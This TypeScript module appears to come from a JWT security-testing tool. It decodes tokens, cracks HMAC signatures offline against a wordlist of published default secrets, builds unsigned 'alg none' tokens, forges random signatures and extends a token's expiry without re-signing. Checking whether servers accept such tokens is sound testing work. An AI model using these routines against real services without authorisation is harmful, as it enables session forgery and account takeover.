import { createHmac, randomBytes, timingSafeEqual } from 'node:crypto';

/** A decoded (not verified) JWT. @internal */
export interface DecodedJwt {
  header: Record<string, unknown>;
  payload: Record<string, unknown>;
  parts: [string, string, string];
}

const b64 = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');

/** Decodes a compact JWS without verifying it; undefined when it is not one. @internal */
export function decodeJwt(token: string): DecodedJwt | undefined {
  const parts = token.split('.');
  if (parts.length !== 3) return undefined;
  try {
    const header = JSON.parse(Buffer.from(parts[0], 'base64url').toString('utf8')) as unknown;
    const payload = JSON.parse(Buffer.from(parts[1], 'base64url').toString('utf8')) as unknown;
    if (typeof header !== 'object' || header === null || typeof payload !== 'object' || payload === null)
      return undefined;
    if (typeof (header as { alg?: unknown }).alg !== 'string') return undefined;
    return {
      header: header as Record<string, unknown>,
      payload: payload as Record<string, unknown>,
      parts: parts as [string, string, string],
    };
  } catch {
    return undefined;
  }
}

const HS = { HS256: 'sha256', HS384: 'sha384', HS512: 'sha512' } as const;

/** Signs header and payload with HMAC (the header's alg, HS256 by default). @internal */
export function signHs(
  header: Record<string, unknown>,
  payload: Record<string, unknown>,
  secret: string | Buffer,
): string {
  const alg = HS[header.alg as keyof typeof HS] ?? 'sha256';
  const input = `${b64(header)}.${b64(payload)}`;
  return `${input}.${createHmac(alg, secret).update(input).digest('base64url')}`;
}

/** Unsigned token: `header.payload.` @internal */
export function unsigned(header: Record<string, unknown>, payload: Record<string, unknown>): string {
  return `${b64(header)}.${b64(payload)}.`;
}

/**
 * Published default and example HMAC secrets (framework docs, tutorials, jwt.io). Tried offline
 * against the victim's own token: no request is sent.
 */
export const WEAK_SECRETS = [
  'secret',
  'Secret',
  'secretkey',
  'secret-key',
  'secret_key',
  'your-256-bit-secret',
  'your_jwt_secret',
  'jwt_secret',
  'jwtsecret',
  'jwt-secret',
  'changeme',
  'change-me',
  'changeit',
  'password',
  '123456',
  'key',
  'private',
  'mysecret',
  'my-secret',
  'my_secret',
  'supersecret',
  'super-secret',
  'topsecret',
  'test',
  'dev',
  'development',
  'default',
  'shhhhh',
  'keyboard cat',
  'secretOrPrivateKey',
  'SECRET_KEY',
  'JWT_SECRET',
  'hello',
  'admin',
  'qwerty',
  'token',
  'nestjs',
  'nest',
  'express',
  's3cr3t',
];

/** The weak secret that verifies this HS token, if any (offline). @internal */
export function findWeakSecret(jwt: DecodedJwt): string | undefined {
  const alg = HS[jwt.header.alg as keyof typeof HS];
  if (!alg) return undefined;
  const input = `${jwt.parts[0]}.${jwt.parts[1]}`;
  const signature = Buffer.from(jwt.parts[2], 'base64url');
  return WEAK_SECRETS.find((secret) => {
    const expected = createHmac(alg, secret).update(input).digest();
    return expected.length === signature.length && timingSafeEqual(expected, signature);
  });
}

/** A random signature of the same length (a "foreign" key). @internal */
export function foreignSignature(jwt: DecodedJwt): string {
  const length = Math.max(32, Buffer.from(jwt.parts[2], 'base64url').length);
  return `${jwt.parts[0]}.${jwt.parts[1]}.${randomBytes(length).toString('base64url')}`;
}

/** The original signature over a changed payload (exp pushed a year ahead). @internal */
export function tamperedPayload(jwt: DecodedJwt): string {
  const payload = { ...jwt.payload, exp: Math.floor(Date.now() / 1000) + 365 * 86400 };
  return `${jwt.parts[0]}.${b64(payload)}.${jwt.parts[2]}`;
}
